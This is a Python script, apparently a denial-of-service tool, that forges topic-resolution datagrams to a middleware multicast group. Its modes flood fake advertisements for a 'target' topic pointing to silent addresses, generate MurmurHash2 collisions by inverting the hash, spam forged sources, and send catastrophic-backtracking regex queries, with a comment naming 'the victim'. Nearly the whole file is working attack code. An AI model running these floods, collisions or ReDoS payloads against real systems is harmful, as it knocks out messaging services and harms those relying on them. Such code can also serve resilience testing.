"""Forged topic resolution, sent from one address of a host: `python forger.py ADDRESS KIND COUNT SECONDS`.

KIND: `joins` (datagrams of COUNT advertisements of topic "target", twice a second), `names` (COUNT topics whose
MurmurHash2 is equal), `sources` (COUNT topics, each of an address of its own), `patterns` (wildcard queries that are
dear to match, COUNT bits a second). Prints "sent N" when it is done.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from collections.abc import Iterator

GROUP = ("224.9.10.11", 12965)
MASK = 0xFFFFFFFF
MULTIPLIER = 0x5BD1E995
INVERSE = pow(MULTIPLIER, -1, 1 << 32)
DATAGRAM = 40_000


def advertisement(name: bytes, address: int, port: int, index: int) -> bytes:
    """A TIR of a TCP source."""
    return name + b"\0" + struct.pack(">BBHIIIH", 0, 10, 0, index, address, index, port)


def datagrams(records: Iterator[bytes]) -> Iterator[bytes]:
    held: list[bytes] = []
    size = 0
    for record in records:
        if size + len(record) > DATAGRAM:
            yield struct.pack(">BBH", 0, 0, len(held)) + b"".join(held)
            held, size = [], 0
        held.append(record)
        size += len(record)
    yield struct.pack(">BBH", 0, 0, len(held)) + b"".join(held)


def mix(word: int) -> int:
    word = word * MULTIPLIER & MASK
    return (word ^ word >> 24) * MULTIPLIER & MASK


def twins(count: int) -> Iterator[bytes]:
    """Names with the MurmurHash2 (seed 0) of 12 letters A: every step of it can be undone."""
    goal = 12
    for _ in range(3):
        goal = goal * MULTIPLIER & MASK ^ mix(0x41414141)
    for number in range(count):
        for variant in range(256):
            first = b"%06x%02x" % (number, variant)
            state = 12
            for word in struct.unpack("<II", first):
                state = state * MULTIPLIER & MASK ^ mix(word)
            last = (state * MULTIPLIER & MASK ^ goal) * INVERSE & MASK
            last = (last ^ last >> 24) * INVERSE & MASK
            name = first + struct.pack("<I", last)
            if b"\0" not in name:
                yield name
                break


def silent_address(number: int) -> int:
    """On the cable's network, where nobody answers."""
    return 0x0A090864 + number % 150


def main(address: str, kind: str, count: int, seconds: float) -> None:
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.bind((address, 0))
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    sent = 0
    if kind == "joins":
        end = time.monotonic() + seconds
        once = list(datagrams(advertisement(b"target", silent_address(i), 1000 + i, i + 1) for i in range(count)))
        while time.monotonic() < end:
            for datagram in once:
                out.sendto(datagram, GROUP)
                sent += 1
            time.sleep(0.5)
    elif kind == "patterns":
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            pattern = b"(a?){30}(a*)*[%d-]x" % sent
            datagram = struct.pack(">BBHB", 1, 1, 0, 1) + pattern + b"\0"
            out.sendto(datagram, GROUP)
            sent += 1
            time.sleep(len(datagram) * 8 / count)
    else:
        names = twins(count) if kind == "names" else (b"forged.%d" % i for i in range(count))
        port = 14371
        records = (
            advertisement(name, silent_address(0) if kind == "names" else 0x0B000001 + i, port, i + 1)
            for i, name in enumerate(names)
        )
        for datagram in datagrams(records):
            out.sendto(datagram, GROUP)
            sent += 1
            time.sleep(0.01)  # what the kernel of the victim drops, it does not suffer from
    print(f"sent {sent}", flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
